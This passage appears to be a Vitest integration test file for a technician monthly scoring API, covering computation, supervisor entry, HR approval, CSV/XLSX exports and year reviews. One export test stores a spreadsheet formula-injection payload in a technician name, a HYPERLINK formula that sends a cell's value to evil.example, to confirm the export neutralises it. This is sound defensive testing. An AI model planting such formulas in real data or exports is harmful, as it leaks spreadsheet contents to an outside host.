import { addMonthsClamped, monthOf, SCORE_DIMENSION_LABELS, SCORE_ITEM_LABELS, todayIn } from '@aftersales/domain';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ScoreSubmittedLate1764500000001 } from '../src/database/migrations/1764500000001-score-submitted-late.js';
import { startTestApp, type TestApp } from './test-app.js';

/*
 * The month's records are written straight into the tables (as the work-order API would leave
 * them) for a month long past, so the expected figures can be worked out by hand from the rules
 * of DOMAIN §8: the score API is what is under test here.
 */
const PERIOD = '2025-03';
const SHANGHAI = '+08:00';
const at = (local: string) => new Date(`${local}${SHANGHAI}`);

let app: TestApp;
let supervisor: string;
let hr: string;
let partner: string;
const technicians = new Map<string, { id: string; repairCenterId: string | null }>();
let workOrderNumber = 0;

interface OrderFixture {
  technician: string;
  arrivalDueAt: Date;
  arrivedAt: Date;
  completedAt: Date;
  firstTimeFix?: boolean;
  outcome?: 'FIXED_ON_SITE' | 'NOT_FIXED';
  repeatedBy?: string;
}

async function insertWorkOrder(order: OrderFixture): Promise<{ id: string; code: string }> {
  const technician = technicians.get(order.technician)!;
  const code = `WO-2025-9${String(++workOrderNumber).padStart(5, '0')}`;
  const [row] = await app.dataSource.query(
    `INSERT INTO work_order (code, status, source, called_at, region_id, area_type, customer_name, customer_phone, customer_address,
        serial_number, serial_key, fault_code, fault_key, fault_description, warranty_status, service_type, repair_center_id,
        technician_id, arrival_due_at, dispatched_at, arrived_at, outcome, completed_at, first_time_fix, repeated_by_work_order_id)
     VALUES ($1, 'COMPLETED', 'CALL', $2, (SELECT id FROM region ORDER BY code LIMIT 1), 'URBAN', '客户', '1', '地址',
        'SN-1', 'SN-1', 'E01', 'e01', '不转', 'IN_WARRANTY', 'FREE', $3, $4, $5, $2, $6, $7, $8, $9, $10)
     RETURNING id, code`,
    [
      code,
      new Date(order.arrivalDueAt.getTime() - 6 * 3_600_000),
      technician.repairCenterId,
      technician.id,
      order.arrivalDueAt,
      order.arrivedAt,
      order.outcome ?? 'FIXED_ON_SITE',
      order.completedAt,
      order.firstTimeFix ?? true,
      order.repeatedBy ?? null,
    ],
  );
  return row;
}

async function insertSurvey(workOrderId: string, technician: string, levels: (number | null)[], respondedAt: Date) {
  const { id, repairCenterId } = technicians.get(technician)!;
  await app.dataSource.query(
    `INSERT INTO survey (work_order_id, technician_id, repair_center_id, status, attitude, skill, arrival_time, promises_handled, channel, responded_at)
     VALUES ($1, $2, $3, 'RESPONDED', $4, $5, $6, $7, 'CALLBACK', $8)`,
    [workOrderId, id, repairCenterId, ...levels, respondedAt],
  );
}

const SCORE_FIELDS = `id version status total currentTotal grade currentGrade payRatio performanceStatus creditedPoints
  surveyPoints onTimeArrivalPoints firstTimeFixPoints complaintDeduction subtotal attitude ability performance
  surveyCount arrivalCount lateArrivalCount repairCount notFirstTimeFixCount complaintCount lateSubmission supervisorScoresEntered
  technician { code } repairCenter { code }`;

async function scoresOf(token: string, variables: Record<string, unknown> = {}) {
  const data = await app.ok(
    `query ($period: String!, $filter: TechnicianScoreFilter, $orderBy: TechnicianScoreOrder, $first: Int, $after: String) {
       technicianScores(period: $period, filter: $filter, orderBy: $orderBy, first: $first, after: $after) {
         totalCount pageInfo { hasNextPage endCursor } nodes { ${SCORE_FIELDS} } } }`,
    { period: PERIOD, ...variables },
    token,
  );
  return data.technicianScores as { totalCount: number; pageInfo: { hasNextPage: boolean; endCursor: string }; nodes: Record<string, any>[] };
}

async function scoreOf(code: string) {
  const { nodes } = await scoresOf(supervisor, { filter: { search: code } });
  return nodes.find((node) => node.technician.code === code)!;
}

const compute = (token: string, period = PERIOD) =>
  app.graphql('mutation ($period: String!) { computeMonthlyScores(period: $period) { period computed unchanged noData } }', { period }, token);

async function enter(code: string, points: Record<string, number>, token = supervisor) {
  const score = await scoreOf(code);
  return app.graphql(
    `mutation ($input: SupervisorScoresInput!) { enterSupervisorScores(input: $input) { ${SCORE_FIELDS} } }`,
    { input: { id: score.id, version: score.version, ...points } },
    token,
  );
}

const FULL_MARKS = { initiative: 15, coordination: 10, loyalty: 15, planning: 5, execution: 5, workQuality: 10 };

let repeatOrder: { id: string; code: string };

beforeAll(async () => {
  app = await startTestApp();
  supervisor = await app.loginAs('supervisor');
  hr = await app.loginAs('hr');
  partner = await app.loginAs('partner');
  const rows: { code: string; id: string; repair_center_id: string | null }[] = await app.dataSource.query(
    'SELECT code, id, repair_center_id FROM technician',
  );
  for (const row of rows) technicians.set(row.code, { id: row.id, repairCenterId: row.repair_center_id });

  // HQ-T01 in March 2025: four visits, one 45 minutes late, one fixed again 10 days later (the
  // repeat's own order is in April), two survey cards, one verified complaint.
  const due = at('2025-03-10T15:00:00');
  const onTime = { technician: 'HQ-T01', arrivalDueAt: due, arrivedAt: at('2025-03-10T14:00:00'), completedAt: at('2025-03-10T16:00:00') };
  const first = await insertWorkOrder(onTime);
  await insertWorkOrder({ ...onTime, arrivedAt: at('2025-03-10T15:45:00') });
  await insertWorkOrder(onTime);
  repeatOrder = await insertWorkOrder({ ...onTime, arrivalDueAt: at('2025-04-02T12:00:00'), arrivedAt: at('2025-04-02T11:00:00'), completedAt: at('2025-04-02T12:00:00') });
  const repeated = await insertWorkOrder({ ...onTime, firstTimeFix: false, repeatedBy: repeatOrder.id });
  // The April order arrived in April: it is not one of March's arrivals or repairs.
  await insertSurvey(first.id, 'HQ-T01', [4, 4, 3, 3], at('2025-03-12T10:00:00'));
  await insertSurvey(repeated.id, 'HQ-T01', [4, 3, null, 4], at('2025-03-13T10:00:00'));
  const agent = await app.loginAs('cs_agent');
  const { regions } = await app.ok('{ regions { nodes { id } } }', {}, agent);
  const { registerComplaint } = await app.ok(
    'mutation ($input: RegisterComplaintInput!) { registerComplaint(input: $input) { id } }',
    {
      input: {
        channel: 'PHONE', receivedAt: at('2025-03-15T10:00:00').toISOString(), regionId: regions.nodes[0].id, customerName: '客户',
        customerPhone: '1', customerAddress: '地址', serialNumber: 'M2025-000101', mainFault: '维修后仍异响', customerRequest: '投诉技术员',
        subject: 'STAFF_CONDUCT',
      },
    },
    agent,
  );
  await app.dataSource.query(
    `UPDATE complaint SET technician_id = $1, technician_verified_at = $2, technician_verified_by_name = '陈部长' WHERE id = $3`,
    [technicians.get('HQ-T01')!.id, at('2025-03-20T09:00:00'), registerComplaint.id],
  );
  // FZ-T01 (the partner's center): one on-time visit.
  await insertWorkOrder({ technician: 'FZ-T01', arrivalDueAt: due, arrivedAt: due, completedAt: at('2025-03-10T17:00:00') });
});
afterAll(() => app.close());

describe('computing a month', () => {
  it('scores every active technician from the month’s records in one run, and rescales a month without records', async () => {
    const result = await compute(supervisor);
    expect(result.errors).toBeUndefined();
    expect(result.data!.computeMonthlyScores).toMatchObject({ period: PERIOD, computed: technicians.size, unchanged: 0 });
    expect(result.data!.computeMonthlyScores.noData).toBe(technicians.size - 2);

    const hq = await scoreOf('HQ-T01');
    expect(hq).toMatchObject({
      status: 'DRAFT',
      // Computed, not yet scored by the supervisor (待评分): what submit's guard waits for.
      supervisorScoresEntered: false,
      arrivalCount: 4,
      lateArrivalCount: 1,
      repairCount: 4,
      notFirstTimeFixCount: 1,
      surveyCount: 2,
      complaintCount: 1,
      onTimeArrivalPoints: 7.5,
      firstTimeFixPoints: 7.5,
      // Seven answered levels summing to 25: (25 − 7) × 20 ÷ (3 × 7) = 17.14.
      surveyPoints: 17.14,
      performanceStatus: 'MEASURED',
      complaintDeduction: 15,
      // No supervisor entry yet: D1 and D2 are 0.
      subtotal: 32.14,
      total: 17.14,
      grade: 'C',
    });
    const idle = await scoreOf('HQ-T02');
    expect(idle).toMatchObject({ performanceStatus: 'NO_DATA', arrivalCount: 0, surveyPoints: null, total: 0, grade: 'C' });
  });

  it('is idempotent: a second run writes nothing and changes no figure', async () => {
    const before = await scoresOf(supervisor, { first: 50 });
    const again = await compute(supervisor);
    expect(again.data!.computeMonthlyScores.computed).toBe(technicians.size);
    const after = await scoresOf(supervisor, { first: 50 });
    expect(after.nodes).toEqual(before.nodes);
  });

  it('runs the same statements for 6 technicians as for 26: one aggregate, one insert of the new drafts', async () => {
    const count = async () => {
      app.queryLog.length = 0;
      await compute(supervisor, '2025-02');
      return app.queryLog.filter((sql) => /technician_month_tally|technician_score/.test(sql)).length;
    };
    const few = await count();
    await app.dataSource.query(
      `INSERT INTO technician (code, name, phone) SELECT 'BULK-' || n, '批量' || n, '1' FROM generate_series(1, 20) AS n`,
    );
    const many = await count();
    expect(many).toBe(few);
    const month = await app.ok('{ scoreMonthSummary(period: "2025-02") { total } }', {}, supervisor);
    expect(month.scoreMonthSummary.total).toBe(technicians.size + 20);
    await app.dataSource.query(`UPDATE technician SET active = false WHERE code LIKE 'BULK-%'`);
  });

  it('computes a month once when two computations of it run at the same time', async () => {
    const [one, other] = await Promise.all([compute(supervisor, '2025-01'), compute(supervisor, '2025-01')]);
    expect(one.errors).toBeUndefined();
    expect(other.errors).toBeUndefined();
    expect(one.data!.computeMonthlyScores.computed).toBe(other.data!.computeMonthlyScores.computed);
    const [{ drafts, technicians: scored }] = await app.dataSource.query(
      `SELECT count(*)::integer AS drafts, count(DISTINCT technician_id)::integer AS technicians FROM technician_score WHERE period = '2025-01'`,
    );
    expect(drafts).toBe(one.data!.computeMonthlyScores.computed);
    expect(scored).toBe(drafts);
  });

  it('refuses a month that has not begun', async () => {
    const result = await compute(supervisor, '2999-01');
    expect(result.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    const malformed = await compute(supervisor, '2025-13');
    expect(malformed.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  });
});

describe("the supervisor's entry", () => {
  it('regrades at once, 90 being an A and 89.99 a B', async () => {
    const full = await enter('HQ-T01', FULL_MARKS);
    expect(full.errors).toBeUndefined();
    // 60 + 32.14 − 15.
    expect(full.data!.enterSupervisorScores).toMatchObject({ attitude: 40, ability: 20, total: 77.14, grade: 'B', supervisorScoresEntered: true });

    // No records: D1 + D2 = 54 of 60 → 90.00, an A.
    const ninety = await enter('HQ-T02', { ...FULL_MARKS, initiative: 12, coordination: 7 });
    expect(ninety.data!.enterSupervisorScores).toMatchObject({ total: 90, grade: 'A', performanceStatus: 'NO_DATA', creditedPoints: 36 });
    const below = await enter('HQ-T02', { ...FULL_MARKS, initiative: 12, coordination: 6.99 });
    expect(below.data!.enterSupervisorScores).toMatchObject({ total: 89.98, grade: 'B' });
  });

  it('enforces each item’s maximum and names the fields', async () => {
    const result = await enter('HQ-T02', { ...FULL_MARKS, initiative: 15.5, workQuality: -1 });
    expect(result.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    expect(Object.keys(result.errors?.[0]?.extensions?.fieldErrors as object).sort()).toEqual(['initiative', 'workQuality']);
  });

  it('refuses a stale version', async () => {
    const score = await scoreOf('HQ-T02');
    const stale = await app.graphql(
      'mutation ($input: SupervisorScoresInput!) { enterSupervisorScores(input: $input) { id } }',
      { input: { id: score.id, version: score.version - 1, ...FULL_MARKS } },
      supervisor,
    );
    expect(stale.errors?.[0]?.extensions?.code).toBe('CONFLICT');
  });

  it('is the supervisor’s: HR cannot enter D1', async () => {
    const result = await enter('HQ-T02', FULL_MARKS, hr);
    expect(result.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
  });
});

describe('explaining a score', () => {
  it('lists every record behind the D3 points and the deduction', async () => {
    const { id } = await scoreOf('HQ-T01');
    const { technicianScore } = await app.ok(
      `query ($id: ID!) { technicianScore(id: $id) { surveyAverage explanation {
         surveys { workOrderCode average survey { attitude skill arrivalTime promisesHandled } }
         lateArrivals { workOrderCode arrivalDueAt arrivedAt minutesLate }
         notFirstTimeFixes { workOrderCode reason repeatedByCode }
         complaints { complaintCode verifiedAt }
         missingItems noDataRule } } }`,
      { id },
      supervisor,
    );
    const { explanation } = technicianScore;
    expect(technicianScore.surveyAverage).toBe(3.57);
    expect(explanation.surveys).toHaveLength(2);
    expect(explanation.surveys[1]).toMatchObject({ average: 3.67, survey: { attitude: 4, skill: 3, arrivalTime: null, promisesHandled: 4 } });
    expect(explanation.lateArrivals).toEqual([
      expect.objectContaining({ minutesLate: 45, arrivalDueAt: at('2025-03-10T15:00:00').toISOString() }),
    ]);
    expect(explanation.notFirstTimeFixes).toEqual([expect.objectContaining({ reason: 'REPEATED', repeatedByCode: repeatOrder.code })]);
    expect(explanation.complaints).toHaveLength(1);
    expect(explanation.missingItems).toEqual([]);
    expect(explanation.noDataRule).toBeNull();
  });

  it('states the rescaling rule for a month without work orders', async () => {
    const { id } = await scoreOf('HQ-T02');
    const { technicianScore } = await app.ok('query ($id: ID!) { technicianScore(id: $id) { explanation { missingItems noDataRule } } }', { id }, supervisor);
    expect(technicianScore.explanation.missingItems).toEqual(['survey', 'onTimeArrival', 'firstTimeFix']);
    expect(technicianScore.explanation.noDataRule).toMatch(/rescaled to 100/);
  });
});

describe('the workflow to HR', () => {
  it('submits only scores with the supervisor’s entry, late after the 8th of the next month', async () => {
    const submitted = await app.ok('mutation { submitTechnicianScores(input: { period: "2025-03" }) }', {}, supervisor);
    expect(submitted.submitTechnicianScores).toBe(2);
    const hq = await scoreOf('HQ-T01');
    expect(hq).toMatchObject({ status: 'SUBMITTED', lateSubmission: true });
    const { scoreMonthSummary } = await app.ok(
      '{ scoreMonthSummary(period: "2025-03") { dueOn total draft submitted published lateCount } }',
      {},
      hr,
    );
    expect(scoreMonthSummary).toMatchObject({ dueOn: '2025-04-08', submitted: 2, draft: technicians.size - 2 });
    // Submitted late, or still drafts long after the due day: every score of the month.
    expect(scoreMonthSummary.lateCount).toBe(technicians.size);
    const { lateScoreSubmissions } = await app.ok('{ lateScoreSubmissions(period: "2025-03") { dueOn submittedAt score { technician { code } } } }', {}, hr);
    expect(lateScoreSubmissions).toHaveLength(technicians.size);
  });

  it('lets HR send a score back with a reason, and the supervisor submit it again', async () => {
    const hq = await scoreOf('HQ-T01');
    const noReason = await app.graphql('mutation ($input: ReturnScoreInput!) { returnTechnicianScore(input: $input) { id } }', { input: { id: hq.id, version: hq.version, reason: ' ' } }, hr);
    expect(noReason.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    const returned = await app.ok(
      'mutation ($input: ReturnScoreInput!) { returnTechnicianScore(input: $input) { status returnedReason } }',
      { input: { id: hq.id, version: hq.version, reason: '协调性请复核' } },
      hr,
    );
    expect(returned.returnTechnicianScore).toEqual({ status: 'DRAFT', returnedReason: '协调性请复核' });
    const again = await app.ok('mutation ($ids: [ID!]) { submitTechnicianScores(input: { period: "2025-03", ids: $ids }) }', { ids: [hq.id] }, supervisor);
    expect(again.submitTechnicianScores).toBe(1);
  });

  it('judges lateness by the domain rule on every write: the flag, the count and the late list agree', async () => {
    const admin = await app.loginAs('admin');
    const lateness = async () => {
      const flagged = (await scoresOf(hr, { first: 100 })).nodes.filter((node) => node.lateSubmission).map((node) => node.technician.code);
      const { scoreMonthSummary } = await app.ok('{ scoreMonthSummary(period: "2025-03") { lateCount } }', {}, hr);
      const { lateScoreSubmissions } = await app.ok('{ lateScoreSubmissions(period: "2025-03") { score { technician { code } } } }', {}, hr);
      const listed = lateScoreSubmissions.map((late: { score: { technician: { code: string } } }) => late.score.technician.code);
      expect(new Set(listed)).toEqual(new Set(flagged));
      expect(scoreMonthSummary.lateCount).toBe(flagged.length);
      return new Set(flagged);
    };
    expect((await lateness()).size).toBe(technicians.size);

    // A score submitted on the 5th of April, as a row written before the column existed: the
    // migration's back-fill runs the domain rule, so it is in time (due by the 8th).
    await app.dataSource.query(`UPDATE technician_score SET submitted_at = $1 WHERE id = $2`, [at('2025-04-05T10:00:00'), (await scoreOf('HQ-T01')).id]);
    const runner = app.dataSource.createQueryRunner();
    try {
      const migration = new ScoreSubmittedLate1764500000001();
      await migration.down(runner);
      await migration.up(runner);
    } finally {
      await runner.release();
    }
    expect((await lateness()).has('HQ-T01')).toBe(false);
    expect((await scoreOf('HQ-T01')).lateSubmission).toBe(false);

    // A due day of the 3rd makes the 5th late; back to the 8th, in time again.
    const SETTINGS = `maxima { initiative coordination loyalty planning execution workQuality survey onTimeArrival firstTimeFix }
      complaintDeduction gradeThresholds { A B } payRatios { A B C } submissionDueDay promotionGradeACount demotionGradeCCount`;
    const { technicianScoreSettings: settings } = await app.ok(`{ technicianScoreSettings { ${SETTINGS} } }`, {}, admin);
    const dueOn = (submissionDueDay: number) =>
      app.ok(`mutation ($input: TechnicianScoreSettingsInput!) { updateTechnicianScoreSettings(input: $input) { submissionDueDay } }`, { input: { ...settings, submissionDueDay } }, admin);
    await dueOn(3);
    try {
      expect((await lateness()).has('HQ-T01')).toBe(true);
    } finally {
      await dueOn(settings.submissionDueDay);
    }
    expect((await lateness()).size).toBe(technicians.size - 1);
  });

  it('publishes for HR only; published scores are final and recomputing leaves them', async () => {
    const bySupervisor = await app.graphql('mutation { publishMonthlyScores(period: "2025-03") }', {}, supervisor);
    expect(bySupervisor.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const published = await app.ok('mutation { publishMonthlyScores(period: "2025-03") }', {}, hr);
    expect(published.publishMonthlyScores).toBe(2);
    const nothingLeft = await app.graphql('mutation { publishMonthlyScores(period: "2025-03") }', {}, hr);
    expect(nothingLeft.errors?.[0]?.extensions?.code).toBe('CONFLICT');

    const recompute = await compute(supervisor);
    expect(recompute.data!.computeMonthlyScores.unchanged).toBe(2);
    const edit = await enter('HQ-T01', FULL_MARKS);
    expect(edit.errors?.[0]?.extensions?.code).toBe('CONFLICT');
    await expect(app.dataSource.query(`UPDATE technician_score SET total = 99 WHERE status = 'PUBLISHED'`)).rejects.toThrow(/published/);
  });

  it('corrects a published score by an audited adjustment, never by rewriting it', async () => {
    const hq = await scoreOf('HQ-T01');
    const adjust = (delta: number, reason: string, version: number) =>
      app.graphql(
        `mutation ($input: AdjustScoreInput!) { adjustTechnicianScore(input: $input) {
           version total grade currentTotal currentGrade adjustments { delta reason totalAfter gradeAfter adjustedByName } } }`,
        { input: { id: hq.id, version, delta, reason } },
        hr,
      );
    const zero = await adjust(0, '无', hq.version);
    expect(zero.errors?.[0]?.extensions?.fieldErrors).toHaveProperty('delta');
    const raised = await adjust(15, '投诉复核不成立', hq.version);
    expect(raised.errors).toBeUndefined();
    expect(raised.data!.adjustTechnicianScore).toMatchObject({
      total: 77.14,
      grade: 'B',
      currentTotal: 92.14,
      currentGrade: 'A',
      adjustments: [{ delta: 15, reason: '投诉复核不成立', totalAfter: 92.14, gradeAfter: 'A', adjustedByName: expect.any(String) }],
    });
    const tooMuch = await adjust(10, '再加', raised.data!.adjustTechnicianScore.version);
    expect(tooMuch.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    const audit = await app.dataSource.query(`SELECT action FROM audit_entry WHERE entity_type = 'TechnicianScore' AND entity_id = $1 ORDER BY at`, [hq.id]);
    expect(audit.map((row: { action: string }) => row.action)).toEqual(['ENTER_SUPERVISOR_SCORES', 'RETURN', 'ADJUST']);
  });
});

describe('the HR table', () => {
  it('filters by grade, center and head office, sorts and pages', async () => {
    const all = await scoresOf(hr, { first: 100 });
    const aGrades = await scoresOf(hr, { filter: { grade: 'A' } });
    expect(aGrades.nodes.every((node) => node.currentGrade === 'A')).toBe(true);
    expect(aGrades.totalCount).toBe(all.nodes.filter((node) => node.currentGrade === 'A' && node.supervisorScoresEntered).length);
    // A draft the supervisor has not scored stands on D3 alone: it has no grade to filter by.
    const cGrades = await scoresOf(hr, { filter: { grade: 'C' }, first: 100 });
    expect(cGrades.nodes.every((node) => node.supervisorScoresEntered)).toBe(true);
    const headOffice = await scoresOf(hr, { filter: { headOffice: true }, first: 100 });
    expect(headOffice.nodes.length).toBeGreaterThan(0);
    expect(headOffice.nodes.every((node) => node.repairCenter === null)).toBe(true);
    const ascending = await scoresOf(hr, { orderBy: 'TOTAL_ASC', first: 100 });
    const totals = ascending.nodes.map((node) => node.currentTotal);
    expect(totals).toEqual([...totals].sort((a, b) => a - b));
    const firstPage = await scoresOf(hr, { orderBy: 'TECHNICIAN', first: 2 });
    expect(firstPage.pageInfo.hasNextPage).toBe(true);
    const secondPage = await scoresOf(hr, { orderBy: 'TECHNICIAN', first: 2, after: firstPage.pageInfo.endCursor });
    expect(secondPage.nodes[0]!.technician.code > firstPage.nodes[1]!.technician.code).toBe(true);
    const { scoreGradeDistribution, scorePendingSupervisorCount } = await app.ok(
      '{ scoreGradeDistribution(period: "2025-03") { grade count } scorePendingSupervisorCount(period: "2025-03") }',
      {},
      hr,
    );
    const pending = all.nodes.filter((node) => !node.supervisorScoresEntered).length;
    expect(pending).toBeGreaterThan(0);
    expect(scorePendingSupervisorCount).toBe(pending);
    // 待评分 scores are left out of the grade distribution, not counted as C.
    expect(scoreGradeDistribution.reduce((sum: number, row: { count: number }) => sum + row.count, 0)).toBe(all.totalCount - pending);
  });

  it('exports the filtered table as XLSX and CSV with Chinese headers', async () => {
    const xlsx = await app.download(`/exports/technician-scores.xlsx?period=${PERIOD}&status=PUBLISHED`, hr);
    expect(xlsx.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).getCell(2).value).toBe('技术员编号');
    // The rubric's columns are named as the admin page names them (both read the domain's labels).
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(headers.slice(4, 16)).toEqual([
      '积极性', '协调性', '忠诚度', 'D1 工作态度', '计划能力', '执行能力', '工作品质', 'D2 职务能力',
      '客户意见调查', '准时到达率', '一次修复率', 'D3 服务绩效',
    ]);
    expect(headers).toEqual(expect.arrayContaining([...Object.values(SCORE_ITEM_LABELS), ...Object.values(SCORE_DIMENSION_LABELS)].map((label) => label.zh)));
    expect(sheet.rowCount).toBe(3);
    const codes = [sheet.getRow(2).getCell(2).value, sheet.getRow(3).getCell(2).value];
    expect(codes).toEqual(['HQ-T01', 'HQ-T02']);

    const csv = await app.download(`/exports/technician-scores.csv?period=${PERIOD}`, hr);
    expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await csv.arrayBuffer());
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const lines = text.slice(1).trim().split(/\r?\n/);
    expect(lines[0]).toMatch(/^考核月份,技术员编号,技术员/);
    expect(lines[0]!.split(',')).toEqual(headers);
    expect(lines).toHaveLength(technicians.size + 1);
    // As on the page: 待评分, not the D3-only 0 / C / 0.90, until the supervisor scores D1/D2.
    const column = (name: string) => headers.indexOf(name);
    const entered = new Map((await scoresOf(hr, { first: 100 })).nodes.map((node) => [node.technician.code, node.supervisorScoresEntered]));
    const rows = lines.slice(1).map((line) => line.split(','));
    const pendingRows = rows.filter((cells) => entered.get(cells[1]!) === false);
    expect(pendingRows.length).toBeGreaterThan(0);
    for (const cells of pendingRows) expect([cells[column('总分')], cells[column('等级')], cells[column('工资比例')]]).toEqual(['待评分', '待评分', '待评分']);
    for (const cells of rows.filter((cells) => entered.get(cells[1]!) === true)) expect(cells[column('总分')]).toMatch(/^\d+(\.\d+)?$/);
  });

  it('exports a formula-looking technician name as text: quoted in CSV, a string cell in XLSX; numbers stay numbers', async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A2,"x")';
    const { id } = technicians.get('HQ-T01')!;
    const [{ name: original }] = await app.dataSource.query('SELECT name FROM technician WHERE id = $1', [id]);
    await app.dataSource.query('UPDATE technician SET name = $2 WHERE id = $1', [id, name]);
    try {
      const csv = await app.download(`/exports/technician-scores.csv?period=${PERIOD}`, hr);
      const lines = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await csv.arrayBuffer()).slice(1).trim().split(/\r?\n/);
      const row = lines.find((line) => line.includes('HQ-T01'))!;
      // 技术员 is the third column; fast-csv doubles the quotes inside a quoted cell.
      expect(row).toMatch(/^2025-03,HQ-T01,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A2,""x""\)",/);
      // 总分 (column 19) is written as a number, not as neutralised text.
      const total = row.split(',').at(-7)!;
      expect(total).toMatch(/^\d+(\.\d+)?$/);

      const xlsx = await app.download(`/exports/technician-scores.xlsx?period=${PERIOD}`, hr);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
      const sheet = workbook.worksheets[0]!;
      const cell = sheet.getColumn(2).values.indexOf('HQ-T01');
      const nameCell = sheet.getRow(cell).getCell(3);
      expect(nameCell.type).toBe(ExcelJS.ValueType.String);
      expect(nameCell.value).toBe(name);
      expect(nameCell.formula).toBeUndefined();
    } finally {
      await app.dataSource.query('UPDATE technician SET name = $2 WHERE id = $1', [id, original]);
    }
  });

  it('shows a partner only its own technicians’ published scores', async () => {
    const seen = await scoresOf(partner, { first: 100 });
    expect(seen.nodes).toEqual([]);
    // Publish FZ-T01's score, then the partner (FZ-01) sees exactly that one.
    await enter('FZ-T01', FULL_MARKS);
    const fz = await scoreOf('FZ-T01');
    await app.ok('mutation ($ids: [ID!]) { submitTechnicianScores(input: { period: "2025-03", ids: $ids }) }', { ids: [fz.id] }, supervisor);
    await app.ok('mutation { publishMonthlyScores(period: "2025-03") }', {}, hr);
    const after = await scoresOf(partner, { first: 100 });
    expect(after.nodes.map((node) => node.technician.code)).toEqual(['FZ-T01']);
    const other = await app.loginAs('partner2');
    expect((await scoresOf(other, { first: 100 })).nodes).toEqual([]);
    const denied = await compute(partner);
    expect(denied.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    // The month's aggregate reads every center's records, so the database answers head office only.
    const runner = app.dataSource.createQueryRunner();
    await runner.connect();
    try {
      await runner.startTransaction();
      await runner.query('SET LOCAL ROLE aftersales_api');
      await runner.query(`SELECT set_config('app.center_id', $1, true), set_config('app.scope', 'partner', true)`, [technicians.get('FZ-T01')!.repairCenterId]);
      await expect(runner.query(`SELECT * FROM technician_month_tally('Asia/Shanghai', '2025-03-01', '2025-03')`)).rejects.toThrow(/head office only/);
    } finally {
      await runner.rollbackTransaction();
      await runner.release();
    }
  });

  it('points a partner from a month HR has not published yet to its newest published month', async () => {
    const [{ waiting }] = await app.dataSource.query(`SELECT max(period) AS waiting FROM technician_score WHERE status = 'SUBMITTED'`);
    const [{ latest }] = await app.dataSource.query(
      `SELECT max(period) AS latest FROM technician_score WHERE status = 'PUBLISHED' AND repair_center_id = $1`,
      [technicians.get('FZ-T01')!.repairCenterId],
    );
    expect(latest < waiting).toBe(true);
    const summary = (token: string) =>
      app.ok('query ($p: String!) { scoreMonthSummary(period: $p) { total published latestPublishedPeriod } }', { p: waiting }, token);
    expect((await summary(partner)).scoreMonthSummary).toEqual({ total: 0, published: 0, latestPublishedPeriod: latest });
    expect((await summary(hr)).scoreMonthSummary.total).toBeGreaterThan(0);
  });
});

describe('the year review', () => {
  it('recommends 7 A grades for promotion and 6 C grades for a demotion review', async () => {
    const grade = (code: string, grades: string) =>
      app.dataSource.query(
        `INSERT INTO technician_score (technician_id, period, status, attitude, ability, performance, performance_status,
            credited_points, subtotal, complaint_deduction, total, grade, pay_ratio, survey_count, survey_level_sum,
            survey_answer_count, arrival_count, late_arrival_count, repair_count, not_first_time_fix_count, complaint_count,
            computed_at, current_total, current_grade, current_pay_ratio)
         SELECT $1, '2024-' || lpad(n::text, 2, '0'), 'PUBLISHED', 0, 0, 0, 'NO_DATA', 0, 0, 0, 0, g, 1, 0, 0, 0, 0, 0, 0, 0, 0,
                now(), 0, g, 1
           FROM unnest(regexp_split_to_array($2, '')) WITH ORDINALITY AS u(g, n)`,
        [technicians.get(code)!.id, grades],
      );
    await grade('HQ-T01', 'AAAAAAABBBBB');
    await grade('FZ-T01', 'CCCCCCBB');
    await grade('HQ-T02', 'AAAAAACCCCC');
    const { yearReviews } = await app.ok(
      '{ yearReviews(year: 2024) { technician { code } gradeA gradeB gradeC monthsGraded outcome } }',
      {},
      hr,
    );
    expect(yearReviews).toEqual([
      { technician: { code: 'FZ-T01' }, gradeA: 0, gradeB: 2, gradeC: 6, monthsGraded: 8, outcome: 'DEMOTION_REVIEW' },
      { technician: { code: 'HQ-T01' }, gradeA: 7, gradeB: 5, gradeC: 0, monthsGraded: 12, outcome: 'PROMOTION_RECOMMENDED' },
      { technician: { code: 'HQ-T02' }, gradeA: 6, gradeB: 0, gradeC: 5, monthsGraded: 11, outcome: 'NONE' },
    ]);
    const promoted = await app.ok('{ yearReviews(year: 2024, outcome: PROMOTION_RECOMMENDED) { technician { code } } }', {}, hr);
    expect(promoted.yearReviews).toEqual([{ technician: { code: 'HQ-T01' } }]);
    const { technicianScoreTrend } = await app.ok(
      'query ($id: ID!) { technicianScoreTrend(technicianId: $id, months: 3) { period total grade } }',
      { id: technicians.get('HQ-T01')!.id },
      hr,
    );
    expect(technicianScoreTrend).toHaveLength(3);
  });

  it('draws the months that are over: the current month, not all in yet, is left out of the trend', async () => {
    const thisMonth = todayIn('Asia/Shanghai').slice(0, 7);
    expect((await compute(supervisor, thisMonth)).errors).toBeUndefined();
    const lastMonth = monthOf(addMonthsClamped(`${thisMonth}-01`, -1));
    const { technicianScoreTrend } = await app.ok(
      'query ($id: ID!) { technicianScoreTrend(technicianId: $id, months: 2) { period total supervisorScoresEntered } }',
      { id: technicians.get('HQ-T01')!.id },
      hr,
    );
    expect(technicianScoreTrend.map((point: { period: string }) => point.period)).toEqual([monthOf(addMonthsClamped(`${thisMonth}-01`, -2)), lastMonth]);
  });
});

describe('score settings', () => {
  it('are the defaults of DOMAIN §8, changed only by ADMIN and only to a rubric of 100', async () => {
    const { technicianScoreSettings } = await app.ok(
